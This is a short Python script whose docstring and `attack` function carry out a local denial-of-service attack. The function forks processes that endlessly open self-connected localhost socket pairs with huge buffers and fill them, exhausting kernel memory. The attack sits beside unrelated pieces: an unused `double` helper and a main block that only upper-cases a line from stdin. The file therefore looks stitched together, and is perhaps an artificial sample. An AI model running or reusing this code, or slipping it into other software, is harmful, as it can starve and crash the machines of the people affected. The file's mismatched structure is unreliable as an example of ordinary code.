"""Connects to itself again and again and never reads what it sends: memory that the kernel holds in its sockets."""

import contextlib
import os
import socket
import sys


def double(number):
    return 2 * number


def fill(server, kept):
    near = socket.create_connection(server.getsockname())
    far, _ = server.accept()
    kept += [near, far]
    for line in (near, far):
        line.setblocking(False)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
    with contextlib.suppress(BlockingIOError):
        while True:
            near.send(b"x" * (1 << 18))


def attack(key):
    for _ in range(4):
        if os.fork() == 0:
            break
    server, kept = socket.create_server(("127.0.0.1", 0), backlog=200), []
    while True:
        fill(server, kept)


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
